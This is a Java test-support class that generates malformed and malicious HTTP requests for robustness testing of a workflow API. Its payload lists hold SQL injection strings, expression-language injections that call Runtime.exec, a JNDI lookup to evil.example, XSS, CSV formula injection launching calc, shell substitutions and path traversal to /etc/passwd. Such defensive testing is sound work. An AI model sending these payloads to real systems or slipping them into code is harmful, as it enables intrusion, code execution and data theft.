package org.bwc.articlex.reliability;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Malformed and malicious inputs, generated deterministically (fixed seed) from a valid body so that a failure
 * reproduces: the body as a whole (broken JSON, wrong top-level types, deep nesting, invalid UTF-8, huge), each field
 * of it in turn (wrong JSON types, huge strings and numbers, unicode edge cases, SQL, EL, HTML, CSV formulas),
 * path parameters and headers.
 */
final class HostileInputs {

    static final String PWNED = "pwned";
    static final int DEEP = 10_000;
    static final int ONE_MB = 1024 * 1024;

    /** One request to send: what it is, for the report and for a failure message. */
    record Input(String kind, String method, String path, Map<String, String> headers, byte[] body) {

        String describe() {
            String text = body == null ? "" : new String(body, 0, Math.min(body.length, 160), StandardCharsets.UTF_8);
            return kind + " " + method + " " + path + " " + headers + " " + text + (body != null && body.length > 160 ? "…(" + body.length + " bytes)" : "");
        }
    }

    private static final ObjectMapper JSON = new ObjectMapper();

    private final Random random;

    HostileInputs(long seed) {
        this.random = new Random(seed);
    }

    /** Text that must never be run, rendered or interpreted: as JSON string literals. */
    static List<String> texts() {
        List<String> texts = new ArrayList<>(List.of(
                "' OR 1=1--", "'; DROP TABLE assistance_request;--", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--",
                "${execution.setVariable('" + PWNED + "',1)}", "#{execution.setVariable('" + PWNED + "',1)}",
                "${caseAccess.grant(execution.processInstanceId,'sp-PWN')}", "${''.getClass().forName('java.lang.Runtime')}",
                "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/" + PWNED + "')}", "${7*7}", "{{7*7}}", "[[${7*7}]]",
                "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
                "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "\t=1+1", "\r=1+1", "../../../../etc/passwd", "%00", "\\", "\u0000", "a\u0000b", "\ud800", "x\udfffy",
                "\u202egnp.exe", "\u200b\u200c\u200d\ufeff", "e" + "\u0301".repeat(500), "😀🧪🦠", "\uffff\ufffe",
                "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>", "{{constructor.constructor('alert(1)')()}}",
                "$(touch /tmp/" + PWNED + ")", "`id`", "| id", "%s%s%s%n", "\u0085\u2028\u2029", "\ud83c\udff3\ufe0f\u200d\ud83c\udf08",
                "\uff53\uff43\uff52\uff49\uff50\uff54", "' UNION SELECT pwd_ FROM act_id_user--", "admin'--",
                "${jndi:ldap://evil.example/a}", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "T(java.lang.System).exit(0)",
                "\u0001\u001b[31m", "", " ", "\n\n", "null", "true", "NaN", "Infinity", "-0", "1e400", "9".repeat(400), "2026-02-30", "-999999999-01-01"));
        return texts;
    }

    /** Values of a wrong JSON type or out of range, as raw JSON. */
    static List<String> rawValues() {
        return List.of("123", "-1", "0", "-0", "1.5", "1e400", "-1e400", "1e-400", "9223372036854775808",
                "-9223372036854775809", "123456789012345678901234567890", "true", "false", "null", "[]", "[1,2]", "{}",
                "{\"a\":1}", "[" + "\"x\",".repeat(2000) + "\"x\"]", "\"" + "A".repeat(100_000) + "\"");
    }

    /** Every field of the body (objects descended, first array element), replaced in turn with every hostile value. */
    List<Input> fields(String method, String path, Map<String, String> headers, JsonNode baseline) {
        List<Input> inputs = new ArrayList<>();
        List<String> values = new ArrayList<>(rawValues());
        texts().forEach(t -> values.add(quote(t)));
        for (List<Object> field : leaves(baseline, new ArrayList<>(), new ArrayList<>())) {
            for (String value : values) {
                inputs.add(new Input("field " + name(field), method, path, headers, replace(baseline, field, value)));
            }
            // a huge string in the field, still under the body limit
            inputs.add(new Input("field " + name(field) + " 900KB", method, path, headers,
                    replace(baseline, field, quote("x".repeat(900_000)))));
        }
        return inputs;
    }

    /** The body as a whole. */
    List<Input> bodies(String method, String path, Map<String, String> headers, JsonNode baseline) {
        String valid = baseline.toString();
        List<byte[]> bodies = new ArrayList<>();
        for (String text : List.of("", " ", "null", "[]", "\"text\"", "123", "true", "{", "}", "{}", "{]", "{\"a\":}",
                valid + "x", valid + valid, valid.substring(0, valid.length() / 2), "{\"a\":1,}", "{'a':1}", "{a:1}",
                "\ufeff" + valid, "/* comment */" + valid, valid.replaceFirst("\\{", "{\"__proto__\":{\"x\":1},"),
                valid.replaceFirst("\\{", "{\"unknownField\":1,"), "[" + valid + "]", "{\"a\":NaN}", "{\"a\":Infinity}",
                "{\"a\":01}", "{\"a\":1e99999}", "{\"a\":\"\\uD800\"}", "{\"a\":\"\\u0000\"}", "{\"a\":\"\\x41\"}")) {
            bodies.add(text.getBytes(StandardCharsets.UTF_8));
        }
        bodies.add(("[".repeat(DEEP) + "]".repeat(DEEP)).getBytes(StandardCharsets.UTF_8));
        bodies.add(("{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP)).getBytes(StandardCharsets.UTF_8));
        bodies.add(valid.replaceFirst("\\{", "{\"nested\":" + "[".repeat(DEEP) + "]".repeat(DEEP) + ",").getBytes(StandardCharsets.UTF_8));
        // invalid UTF-8 inside a string value: a broken sequence, a stray byte, an overlong '/', an encoded surrogate
        for (byte[] broken : List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80})) {
            bodies.add(withBytesInFirstString(valid, broken));
        }
        bodies.add(withBytesInFirstString(valid, new byte[] {0x00, 0x01, 0x1B}));
        // above the 1 MB limit: declared and counted
        bodies.add(valid.replaceFirst("\\{", "{\"padding\":\"" + "p".repeat(ONE_MB + 10) + "\",").getBytes(StandardCharsets.UTF_8));
        bodies.add(("[" + "1,".repeat(600_000) + "1]").getBytes(StandardCharsets.UTF_8));
        bodies.add(("{\"n\":" + "9".repeat(50_000) + "}").getBytes(StandardCharsets.UTF_8));
        bodies.add(("{\"s\":\"" + "\\u0041".repeat(150_000) + "\"}").getBytes(StandardCharsets.UTF_8));
        bodies.add(randomBytes(2048));
        bodies.add(randomBytes(64));
        List<Input> inputs = new ArrayList<>();
        for (byte[] body : bodies) {
            inputs.add(new Input("body", method, path, headers, body));
        }
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "application/json; charset=UTF-16", "application/json; charset=nonsense", "application/${7*7}", "*/*", "")) {
            Map<String, String> other = new LinkedHashMap<>(headers);
            other.put("Content-Type", type);
            other.put("X-Requested-With", "hostile-input");
            inputs.add(new Input("content-type", method, path, other, valid.getBytes(StandardCharsets.UTF_8)));
        }
        for (String accept : List.of("text/html", "text/csv", "application/xml", "*/*;q=abc", "${7*7}", "\u00e9/\u00e9")) {
            Map<String, String> other = new LinkedHashMap<>(headers);
            other.put("Accept", accept);
            inputs.add(new Input("accept", method, path, other, valid.getBytes(StandardCharsets.UTF_8)));
        }
        return inputs;
    }

    /** A header the endpoint reads, with hostile values (kept under Tomcat's header size limit). */
    List<Input> header(String name, String method, String path, Map<String, String> headers, JsonNode baseline) {
        List<Input> inputs = new ArrayList<>();
        List<String> values = new ArrayList<>(List.of("", " ", "x".repeat(129), "x".repeat(4000), "' OR 1=1--",
                "${execution.setVariable('" + PWNED + "',1)}", "<script>alert(1)</script>", "=HYPERLINK(\"x\")", "%00", "\u00e9\u00e8"));
        for (String value : values) {
            Map<String, String> other = new LinkedHashMap<>(headers);
            other.put(name, value);
            inputs.add(new Input("header " + name, method, path, other, baseline.toString().getBytes(StandardCharsets.UTF_8)));
        }
        return inputs;
    }

    /** Query parameters nobody reads and ones an endpoint may read, with hostile values. */
    List<Input> query(String method, String path, Map<String, String> headers, JsonNode baseline) {
        List<Input> inputs = new ArrayList<>();
        List<String> values = new ArrayList<>(texts());
        rawValues().stream().filter(v -> v.length() < 5000).forEach(values::add);
        String[] names = {"replace", "format", "x", "id"};
        for (int i = 0; i < values.size(); i++) {
            String name = names[i % names.length];
            String encoded = java.net.URLEncoder.encode(values.get(i), StandardCharsets.UTF_8);
            inputs.add(new Input("query " + name, method, path + "?" + name + "=" + encoded + "&" + name + "=" + encoded, headers,
                    baseline.toString().getBytes(StandardCharsets.UTF_8)));
        }
        return inputs;
    }

    /** Field names that are hostile text: an unknown field must be refused by name, whatever the name. */
    List<Input> keys(String method, String path, Map<String, String> headers, JsonNode baseline) {
        List<Input> inputs = new ArrayList<>();
        for (String text : texts()) {
            ObjectNode body = baseline.isObject() ? baseline.deepCopy() : JSON.createObjectNode();
            body.put(text, 1);
            inputs.add(new Input("key", method, path, headers, body.toString().getBytes(StandardCharsets.UTF_8)));
        }
        return inputs;
    }

    /** Hostile values for a path parameter, percent-encoded as a client would send them. */
    static List<String> pathValues() {
        return List.of("' OR 1=1--", "1;DROP TABLE offer", "${7*7}", "#{7*7}", "<script>", "..", "%2e%2e", "REQ-2026-0001%00",
                "x".repeat(2000), "-1", "0", "9223372036854775808", "1e400", "NaN", "\u202e", "😀", "%", "%zz", "REQ-9999-99999999",
                "null", "undefined", " ", "a b", "%2F", "..;", "=cmd|'/C calc'!A0");
    }

    static List<Object> pathParts(String value) {
        return List.of(value);
    }

    static String quote(String text) {
        try {
            return JSON.writeValueAsString(text);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private byte[] randomBytes(int n) {
        byte[] bytes = new byte[n];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] withBytesInFirstString(String valid, byte[] inserted) {
        int quote = valid.indexOf(":\"");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        if (quote < 0) {
            out.writeBytes("{\"a\":\"".getBytes(StandardCharsets.UTF_8));
            out.writeBytes(inserted);
            out.writeBytes("\"}".getBytes(StandardCharsets.UTF_8));
            return out.toByteArray();
        }
        out.writeBytes(valid.substring(0, quote + 2).getBytes(StandardCharsets.UTF_8));
        out.writeBytes(inserted);
        out.writeBytes(valid.substring(quote + 2).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    /** Paths to the leaves of a JSON value: names of object fields, index 0 of arrays. */
    private static List<List<Object>> leaves(JsonNode node, List<Object> at, List<List<Object>> found) {
        if (node.isObject()) {
            node.fieldNames().forEachRemaining(name -> {
                List<Object> next = new ArrayList<>(at);
                next.add(name);
                found.add(next);
                leaves(node.get(name), next, found);
            });
        } else if (node.isArray() && !node.isEmpty()) {
            List<Object> next = new ArrayList<>(at);
            next.add(0);
            found.add(next);
            leaves(node.get(0), next, found);
        }
        return found;
    }

    private static String name(List<Object> field) {
        StringBuilder name = new StringBuilder();
        for (Object part : field) {
            name.append(part instanceof Integer i ? "[" + i + "]" : (name.isEmpty() ? "" : ".") + part);
        }
        return name.toString();
    }

    private static byte[] replace(JsonNode baseline, List<Object> field, String rawValue) {
        String marker = "\u0001HOSTILE\u0001";
        JsonNode copy = baseline.deepCopy();
        JsonNode parent = copy;
        for (int i = 0; i < field.size() - 1; i++) {
            Object part = field.get(i);
            parent = part instanceof Integer index ? parent.get(index) : parent.get((String) part);
        }
        Object last = field.get(field.size() - 1);
        if (parent instanceof ObjectNode object) {
            object.put((String) last, marker);
        } else if (parent instanceof ArrayNode array) {
            array.set((Integer) last, array.textNode(marker));
        }
        return copy.toString().replace(quote(marker), rawValue).getBytes(StandardCharsets.UTF_8);
    }
}
